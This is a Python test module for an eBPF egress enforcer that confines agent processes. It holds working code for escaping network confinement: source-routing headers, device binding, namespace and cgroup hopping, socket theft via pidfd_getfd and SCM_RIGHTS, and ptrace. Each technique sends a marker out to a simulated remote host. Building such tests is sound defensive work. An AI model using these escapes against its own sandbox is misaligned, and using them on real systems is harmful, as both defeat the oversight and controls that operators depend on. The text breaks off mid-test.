"""The escapes a skilled agent found against kernel egress enforcement, each tried for real:
real bcc programs, real cgroups, `sealgate egress serve` as a process, and a "remote" host in a
network namespace over a veth pair. What the remote *received* is counted there: an AF_PACKET
sniffer on its interface counts frames carrying the attempt's marker, its listeners count bytes.
Every attack is first run from outside the agent cgroups (the control: the remote must receive
it, else the test proves nothing), then as the agent: the remote must receive nothing and the
daemon must report the refusal.

Needs root, cgroup2, bpffs and kernel headers; elsewhere it skips with the reason from probe()."""

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
import yaml

from ext_authz.egress.config import EgressConfig, agent_cgroup, parent_cgroup
from ext_authz.egress.enforcer import uninstall
from ext_authz.egress.kernel import cgroup2_mount, probe
from ext_authz.egress.launcher import AgentLaunchRefused, spawn_agent
from ext_authz.local.net import free_port, wait_until

pytestmark = pytest.mark.slow

REASON = probe()
if REASON:
    pytest.skip(f"eBPF egress enforcement unavailable: {REASON}", allow_module_level=True)

HOST4, REMOTE4, HOST6, REMOTE6 = "10.233.0.1", "10.233.0.2", "fd00:233::1", "fd00:233::2"
RESOLVER4, RESOLVER_PORT, RESOLVER6, RESOLVER6_PORT, DOT_PORT = "127.0.0.53", 53, "::1", 5353, 853
REMOTE_TCP, NS_PORT = 7000, 7070  # inside the remote netns
INBOUND_PORT = free_port()  # on this host: the agent listens on it
SYSTEM_PYTHON = "/usr/bin/python3"  # readable by nobody (the venv lives under /root)
EPERM = 1

# The remote host: a sniffer counting marker frames that arrive on its veth, and TCP listeners
# logging the bytes they read. Lines go to argv[1]: "frame MARK" / "tcp PORT MARK NBYTES".
REMOTE = r"""
import socket, sys, threading
out = open(sys.argv[1], "a", buffering=1)
lock = threading.Lock()
def log(line):
    with lock:
        out.write(line + "\n")
def marker(data):
    i = data.find(b"SGX-")
    return data[i:data.find(b"!", i)].decode(errors="replace") if i >= 0 else None
def sniff(ifname):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((ifname, 0))
    while True:
        frame, addr = s.recvfrom(65535)
        if addr[2] != socket.PACKET_OUTGOING and marker(frame):
            log("frame " + marker(frame))
def serve(conn, port):
    data = b""
    conn.settimeout(5)
    try:
        while len(data) < 4096:
            chunk = conn.recv(4096)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    log("tcp %d %s %d" % (port, marker(data) or "-", len(data)))
    conn.close()
def listen(host, port):
    l = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind((host, port))
    l.listen(16)
    while True:
        c, _ = l.accept()
        threading.Thread(target=serve, args=(c, port), daemon=True).start()
threading.Thread(target=sniff, args=(sys.argv[2],), daemon=True).start()
for host, port in (("0.0.0.0", DOT_PORT), ("0.0.0.0", REMOTE_TCP), ("127.0.0.1", NS_PORT)):
    threading.Thread(target=listen, args=(host, port), daemon=True).start()
log("ready")
threading.Event().wait()
""".replace("DOT_PORT", str(DOT_PORT)).replace("REMOTE_TCP", str(REMOTE_TCP)).replace("NS_PORT", str(NS_PORT))

# One attack per call: argv[1] = JSON {"attack": name, ...}. Prints JSON {"errno": e, "step": where, ...}.
AGENT = r"""
import array, ctypes, errno, json, os, socket, struct, sys, time
a = json.loads(sys.argv[1])
mark = a.get("marker", "SGX-none").encode() + b"!"
res = {"pid": os.getpid(), "uid": os.getuid(), "errno": 0, "step": "done"}
def step(name, fn):
    res["step"] = name
    return fn()
def srh(segment, final):
    seg, fin = socket.inet_pton(socket.AF_INET6, segment), socket.inet_pton(socket.AF_INET6, final)
    return struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + fin + seg  # SRH type 4, segments [final, segment]
def lsrr(first_hop, final):
    opt = bytes([131, 11, 4]) + socket.inet_aton(first_hop) + socket.inet_aton(final)
    return opt + b"\x01"  # LSRR then NOP: 12 bytes, a multiple of 4
def pktinfo(ifindex):
    return struct.pack("@I4s4s", ifindex, bytes(4), bytes(4))
try:
    k = a["attack"]
    if k == "srh_setsockopt":
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        step("setsockopt", lambda: s.setsockopt(socket.IPPROTO_IPV6, 57, srh(a["segment"], a["dst"])))
        step("sendto", lambda: s.sendto(mark, (a["dst"], a["port"])))
    elif k == "lsrr_setsockopt":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        step("setsockopt", lambda: s.setsockopt(socket.IPPROTO_IP, 4, lsrr(a["hop"], a["dst"])))
        step("sendto", lambda: s.sendto(mark, (a["dst"], a["port"])))
    elif k == "lsrr_cmsg":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        step("sendmsg", lambda: s.sendmsg([mark], [(socket.IPPROTO_IP, 7, lsrr(a["hop"], a["dst"]))], 0, (a["dst"], a["port"])))
    elif k == "bindtodevice_udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        step("setsockopt", lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a["dev"].encode()))
        step("sendto", lambda: s.sendto(mark, (a["dst"], a["port"])))
    elif k == "unicast_if_udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        step("setsockopt", lambda: s.setsockopt(socket.IPPROTO_IP, 50, struct.pack("!I", socket.if_nametoindex(a["dev"]))))
        step("sendto", lambda: s.sendto(mark, (a["dst"], a["port"])))
    elif k == "pktinfo_cmsg_udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        cm = [(socket.IPPROTO_IP, 8, pktinfo(socket.if_nametoindex(a["dev"])))]
        step("sendmsg", lambda: s.sendmsg([mark], cm, 0, (a["dst"], a["port"])))
    elif k == "bindtodevice_tcp":
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(3)
        step("setsockopt", lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a["dev"].encode()))
        step("connect", lambda: s.connect((a["dst"], a["port"])))
        step("send", lambda: s.sendall(mark))
        time.sleep(0.3)
    elif k == "configure_outside_then_send":
        # a root agent: socket made in the agent cgroup, the rerouting option set from the cgroup2 root, back in to send
        fam = socket.AF_INET6 if ":" in a["dst"] else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM)
        here = open("/proc/self/cgroup").read().split("::", 1)[1].strip()
        step("leave", lambda: open(a["outside"] + "/cgroup.procs", "w").write(str(os.getpid())))
        if a["opt"] == "srh":
            s.setsockopt(socket.IPPROTO_IPV6, 57, srh(a["segment"], a["dst"]))
        elif a["opt"] == "lsrr":
            s.setsockopt(socket.IPPROTO_IP, 4, lsrr(a["hop"], a["dst"]))
        else:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a["dev"].encode())
        step("return", lambda: open(a["cgroup_root"] + here + "/cgroup.procs", "w").write(str(os.getpid())))
        step("sendto", lambda: s.sendto(mark, (a["dst"], a["port"])))
    elif k == "bind_listen":
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        step("bind", lambda: s.bind(("0.0.0.0", a["port"])))
        s.listen(4)
        res["port"] = s.getsockname()[1]
        print(json.dumps({"listening": res["port"]}), flush=True)
        s.settimeout(a.get("wait", 6))
        c, peer = step("accept", s.accept)
        res["accepted"] = peer[0]
        c.sendall(mark)
        time.sleep(0.5)
    elif k == "udp_recv":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("0.0.0.0", 0))
        print(json.dumps({"listening": s.getsockname()[1]}), flush=True)
        s.settimeout(a.get("wait", 4))
        data, peer = step("recvfrom", lambda: s.recvfrom(100))
        res["received"] = len(data)
    elif k == "pidfd_getfd":
        libc = ctypes.CDLL(None, use_errno=True)
        def steal():
            pidfd = libc.syscall(434, a["pid"], 0)  # pidfd_open
            if pidfd < 0:
                raise OSError(ctypes.get_errno(), "pidfd_open")
            fd = libc.syscall(438, pidfd, a["fd"], 0)  # pidfd_getfd
            if fd < 0:
                raise OSError(ctypes.get_errno(), "pidfd_getfd")
            return fd
        fd = step("pidfd_getfd", steal)
        s = socket.socket(fileno=fd)
        step("sendto", lambda: s.sendto(mark, (a["dst"], a["port"])))
    elif k == "ptrace_attach":
        libc = ctypes.CDLL(None, use_errno=True)
        def attach():
            if libc.ptrace(16, a["pid"], 0, 0) != 0:  # PTRACE_ATTACH
                raise OSError(ctypes.get_errno(), "ptrace")
        step("ptrace", attach)
        libc.ptrace(17, a["pid"], 0, 0)  # PTRACE_DETACH
    elif k == "scm_rights":
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        step("unix_connect", lambda: u.connect(a["path"]))
        msg, anc, _, _ = u.recvmsg(16, socket.CMSG_SPACE(4 * 4))
        fds = array.array("i")
        for level, kind, data in anc:
            if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
                fds.frombytes(data[:len(data) - len(data) % 4])
        res["received_fds"] = len(fds)
        res["errnos"] = []
        for i, (dst, port) in enumerate(a["targets"]):
            s = socket.socket(fileno=fds[i])
            try:
                s.sendto(mark, (dst, port))
                res["errnos"].append(0)
            except OSError as e:
                res["errnos"].append(e.errno)
    elif k == "socket_family":
        step("socket", lambda: socket.socket(a["family"], a["type"], a.get("proto", 0)).close())
    elif k == "setns_connect":
        libc = ctypes.CDLL(None, use_errno=True)
        fd = os.open(a["netns"], os.O_RDONLY)
        def enter():
            if libc.setns(fd, 0x40000000) != 0:
                raise OSError(ctypes.get_errno(), "setns")
        step("setns", enter)
        s = socket.socket()
        s.settimeout(3)
        step("connect", lambda: s.connect(("127.0.0.1", a["port"])))
        step("send", lambda: s.sendall(mark))
        time.sleep(0.3)
    elif k == "move_in_then_send":  # root: the socket predates the move into the agent cgroup
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        step("enter", lambda: open(a["cgroup"] + "/cgroup.procs", "w").write(str(os.getpid())))
        step("sendto", lambda: s.sendto(mark, (a["dst"], a["port"])))
    elif k == "io_uring_setup":
        libc = ctypes.CDLL(None, use_errno=True)
        params = ctypes.create_string_buffer(120)
        def setup():
            fd = libc.syscall(425, 8, params)
            if fd < 0:
                raise OSError(ctypes.get_errno(), "io_uring_setup")
            os.close(fd)
        step("io_uring_setup", setup)
    elif k == "fds":
        res["fds"] = sorted(int(x) for x in os.listdir("/proc/self/fd"))
    elif k == "flood":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        refused = 0
        for i in range(a["count"]):
            try:
                s.sendto(b"x", (a["dst"], a["port"]))
            except OSError as e:
                refused += e.errno == errno.EPERM
            if a.get("pause_every") and i % a["pause_every"] == 0:
                time.sleep(0.001)
        res["refused"] = refused
    else:
        raise SystemExit("unknown attack " + k)
except OSError as e:
    res["errno"] = e.errno or -1
print(json.dumps(res), flush=True)
"""


# ------------------------------------------------------------------ the remote host


class Remote:
    def __init__(self, workdir: Path):
        tag = os.getpid() % 100000
        self.name, self.host_if, self.remote_if = f"sgesc{os.getpid()}", f"sgeh{tag}", f"sger{tag}"
        self.log = workdir / "remote.log"
        self.netns_path = f"/run/netns/{self.name}"
        self.proc: subprocess.Popen | None = None

    def start(self) -> None:
        from pyroute2 import IPRoute, NetNS, netns

        netns.create(self.name)
        with IPRoute() as ip:
            ip.link("add", ifname=self.host_if, kind="veth", peer={"ifname": self.remote_if, "net_ns_fd": self.name})
            idx = ip.link_lookup(ifname=self.host_if)[0]
            ip.addr("add", index=idx, address=HOST4, prefixlen=24)
            ip.addr("add", index=idx, address=HOST6, prefixlen=64, flags=0x02)  # no DAD
            ip.link("set", index=idx, state="up")
        with NetNS(self.name) as ns:
            for ifname in (self.remote_if, "lo"):
                idx = ns.link_lookup(ifname=ifname)[0]
                if ifname != "lo":
                    ns.addr("add", index=idx, address=REMOTE4, prefixlen=24)
                    ns.addr("add", index=idx, address=REMOTE6, prefixlen=64, flags=0x02)
                    # the remote answers for the host's resolver address on the link, as an attacker's host would
                    ns.addr("add", index=idx, address=RESOLVER4, prefixlen=32)
                ns.link("set", index=idx, state="up")
        self.ns(["sysctl", "-qw", "net.ipv4.conf.all.route_localnet=1", f"net.ipv4.conf.{self.remote_if}.route_localnet=1"])
        # and the host takes the answers (a permissive host, so the controls get whole TCP connections through)
        subprocess.run(["sysctl", "-qw", f"net.ipv4.conf.{self.host_if}.route_localnet=1"], check=True)
        self.proc = subprocess.Popen(["ip", "netns", "exec", self.name, SYSTEM_PYTHON, "-c", REMOTE, str(self.log), self.remote_if],
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        wait_until(lambda: "ready" in self.log.read_text(), 15, "remote host listeners")

    def ns(self, argv: list[str]) -> str:
        return subprocess.run(["ip", "netns", "exec", self.name, *argv], capture_output=True, text=True, check=True).stdout

    def stop(self) -> None:
        from pyroute2 import IPRoute, netns

        if self.proc:
            os.killpg(self.proc.pid, signal.SIGKILL)
            self.proc.wait()
        with IPRoute() as ip:
            for link in ip.link_lookup(ifname=self.host_if):
                ip.link("del", index=link)
        netns.remove(self.name)

    def received(self, marker: str, settle: float = 0.7) -> int:
        """Frames carrying the marker that reached the remote's interface, plus TCP bytes read with it."""
        time.sleep(settle)  # frames in flight
        lines = self.log.read_text().splitlines()
        frames = sum(1 for line in lines if line == f"frame {marker}")
        tcp = sum(int(line.split()[3]) for line in lines if line.startswith("tcp ") and line.split()[2] == marker)
        return frames + tcp

    def tcp_bytes(self, port: int, marker: str) -> int:
        time.sleep(0.5)
        return sum(int(p[3]) for p in (line.split() for line in self.log.read_text().splitlines())
                   if p[0] == "tcp" and int(p[1]) == port and p[2] == marker)

    def connect_in(self, port: int, proto: str = "tcp", timeout: float = 4) -> int:
        """From the remote, connect (or send) to the host and return the bytes read back (-errno if refused)."""
        code = ("import socket, sys\n"
                f"s = socket.socket(socket.AF_INET, socket.SOCK_{'STREAM' if proto == 'tcp' else 'DGRAM'})\n"
                f"s.settimeout({timeout})\n"
                "try:\n"
                f"    s.connect(('{HOST4}', {port}))\n"
                "    s.send(b'SGX-inbound!')\n"
                "    n = len(s.recv(100)) if s.type == socket.SOCK_STREAM else 0\n"
                "except OSError as e:\n"
                "    n = -(e.errno or 110)\n"
                "print(n)\n")
        return int(self.ns([SYSTEM_PYTHON, "-c", code]).strip())


@pytest.fixture(scope="module")
def remote(tmp_path_factory):
    r = Remote(tmp_path_factory.mktemp("remote"))
    r.start()
    try:
        yield r
    finally:
        r.stop()


# ------------------------------------------------------------------ the daemon


class Daemon:
    """`sealgate egress serve` as a real process with its config and OCSF sink."""

    def __init__(self, workdir: Path, remote: Remote, tag: str):
        self.workdir, self.remote = workdir, remote
        self.config_path, self.sink, self.log = workdir / "egress.yaml", workdir / "events.jsonl", workdir / "egress.log"
        self.raw = {
            "pin_dir": f"/sys/fs/bpf/{tag}", "cgroup_parent": tag, "sink": str(self.sink),
            "agents": [
                {"id": "esc", "allow": [
                    {"addr": RESOLVER4, "port": RESOLVER_PORT, "proto": "udp"},
                    {"addr": RESOLVER6, "port": RESOLVER6_PORT, "proto": "udp"},
                    {"addr": RESOLVER4, "port": DOT_PORT, "proto": "tcp"},
                    {"addr": "127.0.0.1", "port": NS_PORT, "proto": "tcp"}]},
                {"id": "esc-in", "allow": [], "inbound": [{"port": INBOUND_PORT, "proto": "tcp"}]},
                {"id": "esc-ns", "allow": [{"addr": "127.0.0.1", "port": NS_PORT, "proto": "tcp", "netns": remote.netns_path}]},
            ],
        }
        self.config_path.write_text(yaml.safe_dump(self.raw))
        self.proc: subprocess.Popen | None = None

    @property
    def config(self) -> EgressConfig:
        return EgressConfig.from_dict(self.raw)

    def log_count(self, needle: str) -> int:
        return self.log.read_text().count(needle) if self.log.exists() else 0

    def start(self) -> None:
        ready = self.log_count("egress ready")
        with open(self.log, "ab") as log:
            self.proc = subprocess.Popen([sys.executable, "-m", "ext_authz.cli", "egress", "serve", "--config", str(self.config_path)],
                                         stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
        wait_until(lambda: self.log_count("egress ready") > ready or self.proc.poll() is not None, 60, "egress daemon ready",
                   interval=0.1)
        assert self.proc.poll() is None, self.log.read_text()

    def stop(self, sig: int = signal.SIGTERM) -> None:
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(sig)
            self.proc.wait(timeout=20)

    def events(self) -> list[dict]:
        if not self.sink.exists():
            return []
        return [json.loads(line) for line in self.sink.read_text().splitlines() if line.strip()]

    def wait_event(self, what: str, timeout: float = 5, **want) -> dict:
        def match(e: dict) -> bool:
            u = e.get("unmapped", {})
            return all((e["actor"]["process"]["pid"] if k == "pid" else e["dst_endpoint"].get("ip") if k == "ip"
                        else e["dst_endpoint"].get("port") if k == "port"
                        else e["connection_info"]["protocol_name"] if k == "proto" else u.get(k)) == v
                       for k, v in want.items())
        return wait_until(lambda: next((e for e in self.events() if "unmapped" in e and match(e)), None), timeout,
                          f"event: {what} {want}")

    def agent(self, agent: str, attack: dict, user: str | None = "nobody", confine: bool = True, **popen) -> dict:
        python = SYSTEM_PYTHON
        proc = spawn_agent(self.config, agent, [python, "-c", AGENT, json.dumps(attack)], user=user,
                           allow_root=user is None, confine=confine, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           text=True, cwd="/", **popen)
        out, err = proc.communicate(timeout=60)
        assert proc.returncode == 0, err
        return json.loads(out.strip().splitlines()[-1])


def outside(attack: dict, user: str | None = None) -> dict:
    """The control: the same attack from a process in no agent cgroup."""
    argv = [SYSTEM_PYTHON, "-c", AGENT, json.dumps(attack)]
    if user:
        argv = ["setpriv", f"--reuid={user}", "--regid=nogroup", "--clear-groups", *argv]
    out = subprocess.run(argv, capture_output=True, text=True, check=True, cwd="/", timeout=60).stdout
    return json.loads(out.strip().splitlines()[-1])


@pytest.fixture(scope="module")
def daemon(remote, tmp_path_factory):
    d = Daemon(tmp_path_factory.mktemp("egress-esc"), remote, f"sg-esc-{os.getpid()}")
    d.start()
    try:
        yield d
    finally:
        d.stop()
        cleanup(d.config)


def cleanup(config: EgressConfig) -> None:
    uninstall(config)
    parent = parent_cgroup(config)
    for sub in sorted(parent.glob("**/"), key=lambda p: len(p.parts), reverse=True) if parent.exists() else []:
        try:
            sub.rmdir()
        except OSError:
            pass


def marker(request) -> str:
    return "SGX-" + request.node.name.replace("_", "")[-40:]


def attempt(daemon, remote, request, attack: dict, user: str | None = "nobody", agent: str = "esc", confine: bool = True):
    """Control from outside (must reach the remote), then the agent (must not). Returns the agent's result."""
    m = marker(request)
    control = outside(dict(attack, marker=m + "-ctl"))
    assert control["errno"] == 0, control
    assert remote.received(m + "-ctl") > 0, "the control did not reach the remote: the test would prove nothing"
    r = daemon.agent(agent, dict(attack, marker=m), user=user, confine=confine)
    assert remote.received(m) == 0, f"the remote received the agent's {attack['attack']}"
    return r


# ------------------------------------------------------------------ 1. source routes, IP options, device binding


def test_ipv6_srh_to_allowlisted_resolver_is_blocked(daemon, remote, request):
    r = attempt(daemon, remote, request, {"attack": "srh_setsockopt", "segment": REMOTE6, "dst": RESOLVER6, "port": RESOLVER6_PORT})
    assert (r["errno"], r["step"]) == (EPERM, "setsockopt")
    ev = daemon.wait_event("SRH refused", pid=r["pid"], hook="setsockopt", reason_code="EGRESS_SOCKOPT_REROUTES")
    assert ev["unmapped"]["sockopt"] == [41, 57] and ev["actor"]["process"]["user"]["uid"] == "65534"


def test_ipv6_srh_set_outside_the_agent_cgroup_is_dropped_by_the_packet_check(daemon, remote, request):
    """A root agent sets the header where no setsockopt hook judges it; the packet still leaves with the
    remote as its real destination, and the packet check refuses it."""
    attack = {"attack": "configure_outside_then_send", "opt": "srh", "segment": REMOTE6, "dst": RESOLVER6,
              "port": RESOLVER6_PORT, "outside": str(parent_cgroup(daemon.config).parent),
              "cgroup_root": str(parent_cgroup(daemon.config).parent)}
    m = marker(request)
    r = daemon.agent("esc", dict(attack, marker=m), user=None, confine=False)
    assert (r["errno"], r["step"]) == (EPERM, "sendto")
    assert remote.received(m) == 0
    daemon.wait_event("SRH packet dropped", hook="skb_egress", reason_code="EGRESS_IP_OPTIONS", agent_id="esc")


def test_ipv4_lsrr_option_to_allowlisted_resolver_is_blocked(daemon, remote, request):
    r = attempt(daemon, remote, request, {"attack": "lsrr_setsockopt", "hop": REMOTE4, "dst": RESOLVER4, "port": RESOLVER_PORT},
                user=None)
    assert (r["errno"], r["step"]) == (EPERM, "setsockopt")
    daemon.wait_event("IP_OPTIONS refused", pid=r["pid"], hook="setsockopt", sockopt=[0, 4])


def test_ipv4_lsrr_cmsg_to_allowlisted_resolver_is_dropped_by_the_packet_check(daemon, remote, request):
    r = attempt(daemon, remote, request, {"attack": "lsrr_cmsg", "hop": REMOTE4, "dst": RESOLVER4, "port": RESOLVER_PORT},
                user=None)
    assert (r["errno"], r["step"]) == (EPERM, "sendmsg")
    ev = daemon.wait_event("LSRR packet dropped", hook="skb_egress", reason_code="EGRESS_IP_OPTIONS", ip=REMOTE4)
    assert ev["unmapped"]["agent_id"] == "esc"


def test_so_bindtodevice_to_allowlisted_resolver_is_blocked(daemon, remote, request):
    r = attempt(daemon, remote, request, {"attack": "bindtodevice_udp", "dev": remote.host_if, "dst": RESOLVER4,
                                          "port": RESOLVER_PORT})  # a first SO_BINDTODEVICE needs no privilege
    assert (r["errno"], r["step"]) == (EPERM, "setsockopt")
    daemon.wait_event("SO_BINDTODEVICE refused", pid=r["pid"], hook="setsockopt", sockopt=[1, 25])


def test_so_bindtodevice_set_outside_the_agent_cgroup_is_refused_at_sendto(daemon, remote, request):
    attack = {"attack": "configure_outside_then_send", "opt": "dev", "dev": remote.host_if, "dst": RESOLVER4,
              "port": RESOLVER_PORT, "outside": str(parent_cgroup(daemon.config).parent),
              "cgroup_root": str(parent_cgroup(daemon.config).parent)}
    m = marker(request)
    r = daemon.agent("esc", dict(attack, marker=m), user=None, confine=False)
    assert (r["errno"], r["step"]) == (EPERM, "sendto")
    assert remote.received(m) == 0
    ev = daemon.wait_event("device-bound sendto refused", pid=r["pid"], hook="sendmsg4", reason_code="EGRESS_DEVICE_NOT_ALLOWED")
    assert ev["unmapped"]["ifindex"] == socket.if_nametoindex(remote.host_if)


def test_ip_unicast_if_to_allowlisted_resolver_is_blocked(daemon, remote, request):
    r = attempt(daemon, remote, request, {"attack": "unicast_if_udp", "dev": remote.host_if, "dst": RESOLVER4,
                                          "port": RESOLVER_PORT})
    assert (r["errno"], r["step"]) == (EPERM, "setsockopt")
    daemon.wait_event("IP_UNICAST_IF refused", pid=r["pid"], hook="setsockopt", sockopt=[0, 50])


def test_ip_pktinfo_cmsg_to_allowlisted_resolver_is_dropped_by_the_packet_check(daemon, remote, request):
    r = attempt(daemon, remote, request, {"attack": "pktinfo_cmsg_udp", "dev": remote.host_if, "dst": RESOLVER4,
                                          "port": RESOLVER_PORT})
    assert (r["errno"], r["step"]) == (EPERM, "sendmsg")
    ev = daemon.wait_event("pktinfo packet dropped", hook="skb_egress", reason_code="EGRESS_DEVICE_NOT_ALLOWED", ip=RESOLVER4)
    assert ev["unmapped"]["ifindex"] == socket.if_nametoindex(remote.host_if) and ev["unmapped"]["agent_id"] == "esc"


def test_tcp_syn_bound_to_device_to_allowlisted_address_is_blocked(daemon, remote, request):
    r = attempt(daemon, remote, request, {"attack": "bindtodevice_tcp", "dev": remote.host_if, "dst": RESOLVER4,
                                          "port": DOT_PORT}, user=None)
    assert (r["errno"], r["step"]) == (EPERM, "setsockopt")


def test_nsenter_to_another_netns_allowlisted_loopback_is_blocked(daemon, remote, request):
    attack = {"attack": "setns_connect", "netns": remote.netns_path, "port": NS_PORT}
    m = marker(request)
    control = outside(dict(attack, marker=m + "-ctl"))
    assert control["errno"] == 0 and remote.tcp_bytes(NS_PORT, m + "-ctl") > 0
    r = daemon.agent("esc", dict(attack, marker=m), user=None, confine=False)  # setns needs root
    assert (r["errno"], r["step"]) == (EPERM, "connect")
    assert remote.tcp_bytes(NS_PORT, m) == 0
    daemon.wait_event("other-netns connect refused", pid=r["pid"], hook="connect4", reason_code="EGRESS_NETNS_NOT_ALLOWED")


def test_allow_rule_naming_a_netns_holds_there_only(daemon, remote, request):
    m = marker(request)
    r = daemon.agent("esc-ns", {"attack": "setns_connect", "netns": remote.netns_path, "port": NS_PORT, "marker": m},
                     user=None, confine=False)
    assert r["errno"] == 0 and remote.tcp_bytes(NS_PORT, m) > 0  # the rule names the remote's netns


# ------------------------------------------------------------------ 2. inbound


def test_listen_on_a_port_the_config_does_not_open_is_refused(daemon):
    r = daemon.agent("esc", {"attack": "bind_listen", "port": free_port()})
    assert (r["errno"], r["step"]) == (EPERM, "bind")
    daemon.wait_event("bind refused", pid=r["pid"], hook="bind4", reason_code="EGRESS_INBOUND_NOT_ALLOWED")


def run_listener(daemon, agent: str, attack: dict) -> tuple[subprocess.Popen, int]:
    proc = spawn_agent(daemon.config, agent, [SYSTEM_PYTHON, "-c", AGENT, json.dumps(attack)], user="nobody",
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd="/")
    first = json.loads(proc.stdout.readline())
    return proc, first["listening"]


def test_listen_accept_from_remote_is_refused(daemon, remote):
    """An ephemeral port (bind to port 0 passes): the remote's SYNs never reach the agent."""
    proc, port = run_listener(daemon, "esc", {"attack": "bind_listen", "port": 0, "wait": 6})
    got = remote.connect_in(port)
    out, _ = proc.communicate(timeout=30)
    r = json.loads(out.strip().splitlines()[-1])
    assert got <= 0  # the remote read nothing back: no connection
    assert r["step"] == "accept" and r["errno"] != 0 and "accepted" not in r
    ev = daemon.wait_event("inbound SYN dropped", hook="skb_ingress", reason_code="EGRESS_INBOUND_NOT_ALLOWED", ip=REMOTE4)
    assert ev["connection_info"]["direction_id"] == 1 and ev["unmapped"]["agent_id"] == "esc"


def test_udp_datagram_from_remote_is_not_delivered_to_the_agent(daemon, remote):
    proc, port = run_listener(daemon, "esc", {"attack": "udp_recv", "wait": 4})
    remote.connect_in(port, proto="udp")
    out, _ = proc.communicate(timeout=30)
    r = json.loads(out.strip().splitlines()[-1])
    assert r["step"] == "recvfrom" and r["errno"] != 0 and "received" not in r
    daemon.wait_event("inbound datagram dropped", hook="skb_ingress", ip=REMOTE4, proto="udp",
                      reason_code="EGRESS_INBOUND_NOT_ALLOWED")


def test_inbound_port_opened_by_the_config_accepts_the_remote(daemon, remote):
    proc, port = run_listener(daemon, "esc-in", {"attack": "bind_listen", "port": INBOUND_PORT, "wait": 10,
                                                 "marker": "SGX-inbound-ok"})
    assert port == INBOUND_PORT
    got = remote.connect_in(port)
    out, _ = proc.communicate(timeout=30)
    r = json.loads(out.strip().splitlines()[-1])
    assert r["errno"] == 0 and r["accepted"] == REMOTE4
    assert got == len(b"SGX-inbound-ok!")  # the remote read the agent's answer


# ------------------------------------------------------------------ 3. sockets the agent did not create


@pytest.fixture
def holder():
    """A process outside the agent cgroups, running as nobody (same uid as the agent), holding an
    unconnected UDP socket at fd 3."""
    code = ("import socket, os, sys, time\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "os.dup2(s.fileno(), 3) if s.fileno() != 3 else None\n"
            "print(os.getpid(), flush=True)\n"
            "time.sleep(60)\n")
    proc = subprocess.Popen(["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", SYSTEM_PYTHON, "-c", code],
                            stdout=subprocess.PIPE, text=True)
    pid = int(proc.stdout.readline())
    yield pid
    proc.kill()
    proc.wait()


def test_pidfd_getfd_socket_of_an_outside_process_is_refused_by_the_launcher(daemon, remote, holder, request):
    m = marker(request)
    control = outside({"attack": "pidfd_getfd", "pid": holder, "fd": 3, "dst": REMOTE4, "port": 9, "marker": m + "-ctl"},
                      user="nobody")
    assert control["errno"] == 0 and remote.received(m + "-ctl") > 0  # same uid: the theft works outside
    r = daemon.agent("esc", {"attack": "pidfd_getfd", "pid": holder, "fd": 3, "dst": REMOTE4, "port": 9, "marker": m})
    assert (r["errno"], r["step"]) == (EPERM, "pidfd_getfd")  # the agent's seccomp filter
    assert remote.received(m) == 0
    ev = daemon.wait_event("pidfd_getfd refused", pid=r["pid"], hook="seccomp", syscall="pidfd_getfd")
    assert ev["unmapped"]["agent_id"] == "esc" and ev["unmapped"]["reason_code"] == "EGRESS_SYSCALL_REFUSED"


def test_pidfd_getfd_socket_is_judged_by_the_calling_agent_without_the_filter(daemon, remote, holder, request):
    """Without the launcher's filter the theft succeeds, and the stolen socket (created in the cgroup2
    root) is still judged by the programs at the root, for the agent that calls sendto."""
    m = marker(request)
    r = daemon.agent("esc", {"attack": "pidfd_getfd", "pid": holder, "fd": 3, "dst": REMOTE4, "port": 9, "marker": m},
                     confine=False)
    assert (r["errno"], r["step"]) == (EPERM, "sendto")
    assert remote.received(m) == 0
    ev = daemon.wait_event("stolen socket sendto refused", pid=r["pid"], hook="sendmsg4", ip=REMOTE4,
                           reason_code="EGRESS_DESTINATION_NOT_ALLOWED")
    assert ev["unmapped"]["cgroup_id"] == os.stat(agent_cgroup(daemon.config, "esc")).st_ino


def test_ptrace_of_an_outside_process_is_refused_by_the_launcher(daemon, holder):
    r = daemon.agent("esc", {"attack": "ptrace_attach", "pid": holder})
    assert (r["errno"], r["step"]) == (EPERM, "ptrace")
    daemon.wait_event("ptrace refused", pid=r["pid"], hook="seccomp", syscall="ptrace", agent_id="esc")
    control = outside({"attack": "ptrace_attach", "pid": holder}, user="nobody")
    assert control["errno"] == 0  # same uid, no filter: the attach works (so the refusal above is the filter's)


def test_scm_rights_socket_is_judged_by_the_receiving_agent(daemon, remote, request):
    """A cooperating root process outside passes two UDP sockets over AF_UNIX: one plain, one bound to
    the veth. The agent's sendto on each is refused; the same sockets work for the sender."""
    m = marker(request)
